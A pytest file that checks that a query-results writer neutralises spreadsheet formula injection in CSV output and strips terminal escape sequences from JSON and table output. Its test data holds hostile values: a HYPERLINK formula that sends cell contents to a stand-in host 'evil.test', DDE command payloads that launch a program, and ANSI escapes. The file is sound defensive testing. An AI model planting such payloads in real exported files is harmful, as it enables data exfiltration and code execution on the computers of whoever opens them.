"""What is written of a query's result: text from dumps stays text, whoever opens the file."""

from __future__ import annotations

import csv
import io

import orjson
import polars as pl
import pytest

from flows.output import write_parts

HOSTILE = [
    pytest.param('=HYPERLINK("http://evil.test?"&A1)', '\'=HYPERLINK("http://evil.test?"&A1)', id="formula"),
    pytest.param("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", id="call of a program"),
    pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-omics: A Survey", "'-omics: A Survey", id="a title with a dash"),
    pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at sign"),
    pytest.param("\t=1+1", "'\t=1+1", id="tab"),
    pytest.param("-12.5", "-12.5", id="a number"),
    pytest.param("A = B, and 2 - 1", "A = B, and 2 - 1", id="signs within"),
    pytest.param("Red \x1b[31mAlert\x07", "Red \ufffd[31mAlert\ufffd", id="terminal escapes"),
    pytest.param("one\ntwo", "one\ntwo", id="two lines"),
    pytest.param("\x9b2J gone", "\ufffd2J gone", id="an escape of one character"),
]


@pytest.mark.parametrize(("title", "shown"), HOSTILE)
def test_csv_holds_text_and_no_commands(title: str, shown: str, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    write_parts(iter([pl.DataFrame({"title": [title], "authors": [[title]], "year": [-3]})]), "csv")
    header, row = csv.reader(io.StringIO(capfdbinary.readouterr().out.decode(), newline=""))
    assert header == ["title", "authors", "year"]
    assert row == [shown, orjson.dumps([title]).decode(), "-3"]


@pytest.mark.parametrize(("title", "_"), HOSTILE)
def test_json_keeps_every_character_and_escapes_those_that_a_terminal_obeys(
    title: str, _: str, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    write_parts(iter([pl.DataFrame({"title": [title]})]), "jsonl")
    written = capfdbinary.readouterr().out
    assert b"\x1b" not in written
    assert orjson.loads(written) == {"title": title}


def test_table_shows_escapes_as_text(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    write_parts(iter([pl.DataFrame({"title": ["Red \x1b[31mAlert [bold]"]})]), "table")
    written = capfdbinary.readouterr().out
    assert b"\x1b" not in written
    assert b"[bold]" in written
